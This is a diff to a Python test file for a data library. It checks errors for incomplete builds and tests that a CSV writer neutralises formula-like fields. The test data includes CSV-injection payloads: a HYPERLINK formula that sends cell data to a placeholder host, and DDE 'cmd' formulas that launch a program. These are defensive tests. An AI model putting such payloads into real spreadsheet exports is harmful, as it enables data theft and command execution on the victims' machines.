@@ -7,7 +7,8 @@ import pandas as pd
 import pyarrow.parquet as pq
 import pytest
 
-from ledgerlib.tables import TABLES, ProcessedDataMissing, empty_table, load_processed, read_table, write_table
+from ledgerlib.tables import (TABLES, BuildIncompleteError, empty_table, load_processed, read_table, write_stamp,
+                              write_table)
 
 
 def _frame() -> pd.DataFrame:
@@ -106,15 +107,28 @@ def test_read_table_on_a_missing_table_says_to_build(tmp_path):
 
 
 def test_load_processed_refuses_a_missing_or_half_built_folder(tmp_path):
-    with pytest.raises(ProcessedDataMissing, match="ledger build") as err:
-        load_processed(tmp_path / "nothing")
-    assert "nothing" in str(err.value)
+    with pytest.raises(BuildIncompleteError, match="ledger build") as err:
+        load_processed(tmp_path / "nothing")  # used to return {}, then KeyError: 'ledger'
+    assert "nothing" in str(err.value) and "不存在" in str(err.value)
     write_table(_frame(), tmp_path, "progress")
     write_table(pd.DataFrame({"task_id": ["T01"]}), tmp_path, "ledger")
-    with pytest.raises(ProcessedDataMissing, match="ledger build") as err:
-        load_processed(tmp_path)  # a build that stopped half-way: only two tables
-    assert "assignments" in str(err.value) and "progress" not in str(err.value).split("missing")[-1]
-    assert isinstance(err.value, FileNotFoundError)  # the CLI prints it as one line
+    with pytest.raises(BuildIncompleteError, match="ledger build"):
+        load_processed(tmp_path)  # a build that stopped before its stamp
+    write_stamp(tmp_path)
+    (tmp_path / "progress.parquet").unlink()  # a stamped build missing a table
+    with pytest.raises(BuildIncompleteError, match="ledger build") as err:
+        load_processed(tmp_path)
+    assert "progress.parquet" in str(err.value)
+
+
+def test_load_processed_returns_the_tables_present(tmp_path):
+    write_table(_frame(), tmp_path, "progress")
+    write_table(pd.DataFrame({"task_id": ["T01"]}), tmp_path, "ledger")
+    write_table(pd.DataFrame({"x": [1]}), tmp_path, "not_a_contract_table")
+    write_stamp(tmp_path)
+    loaded = load_processed(tmp_path)
+    assert set(loaded) == {"ledger", "progress"} and set(loaded) <= set(TABLES)
+    assert loaded["ledger"]["task_id"].tolist() == ["T01"]
 
 
 def test_load_processed_returns_every_table_of_a_complete_build(tmp_path):
@@ -122,6 +136,48 @@ def test_load_processed_returns_every_table_of_a_complete_build(tmp_path):
         write_table(empty_table(name), tmp_path, name)
     write_table(pd.DataFrame({"task_id": ["T01"]}), tmp_path, "ledger")
     write_table(pd.DataFrame({"x": [1]}), tmp_path, "not_a_contract_table")
+    write_stamp(tmp_path)
     loaded = load_processed(tmp_path)
     assert list(loaded) == list(TABLES)
     assert loaded["ledger"]["task_id"].tolist() == ["T01"]
+
+
+# --- one CSV writer: fields no spreadsheet will run (OWASP CSV injection) ------------------
+
+@pytest.mark.parametrize("text,written", [
+    ('=HYPERLINK("http://x/?d="&A1,"点击")', '\'=HYPERLINK("http://x/?d="&A1,"点击")'),
+    ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
+    ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
+    ("-2+3", "'-2+3"),
+    ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
+    ("\t=1+1", "'\t=1+1"),
+    ("\r=1+1", "'\n=1+1"),  # and a bare CR, which would split the row, becomes a quoted line break
+    ("a\r\nb", "a\nb"),
+    ("-3", "-3"), ("+5", "+5"), ("-12.5%", "-12.5%"), ("1e3", "1e3"),  # numbers stay numbers
+    ("安阳市", "安阳市"), ("a=b", "a=b"), ("", ""),
+])
+def test_a_field_starting_like_a_formula_is_written_inert(tmp_path, text, written):
+    import csv
+
+    from ledgerlib.tables import write_csv
+
+    path = write_csv(pd.DataFrame({"说明": pd.array([text], dtype="str"), "数量": [-3]}), tmp_path / "t.csv")
+    with open(path, encoding="utf-8-sig", newline="") as fh:
+        rows = list(csv.reader(fh))
+    assert rows == [["说明", "数量"], [written, "-3"]]
+
+
+def test_processed_csv_neutralises_text_but_parquet_keeps_it(tmp_path):
+    df = pd.DataFrame({"matter": pd.array(["=1+2", "普通"], dtype="str"), "count": pd.array([-1, 2], dtype="Int64")})
+    write_table(df, tmp_path, "t")
+    assert read_table("t", tmp_path)["matter"].tolist() == ["=1+2", "普通"]
+    csv = pd.read_csv(tmp_path / "t.csv", encoding="utf-8-sig", dtype=str)
+    assert csv["matter"].tolist() == ["'=1+2", "普通"] and csv["count"].tolist() == ["-1", "2"]
+    assert not list(tmp_path.glob(".*"))  # the temporary file was renamed into place
+
+
+def test_a_header_starting_like_a_formula_is_inert_too(tmp_path):
+    from ledgerlib.tables import write_csv
+
+    write_csv(pd.DataFrame({"=x": [1]}), tmp_path / "h.csv")
+    assert (tmp_path / "h.csv").read_text(encoding="utf-8-sig").splitlines()[0] == "'=x"
